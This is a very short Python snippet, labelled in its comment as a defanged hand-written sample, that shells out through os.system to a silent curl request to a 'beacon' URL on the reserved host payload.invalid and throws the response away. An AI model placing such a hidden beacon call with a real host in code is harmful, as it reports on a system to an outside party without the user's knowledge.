# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import os

os.system("curl -s https://payload.invalid/beacon -o /dev/null")
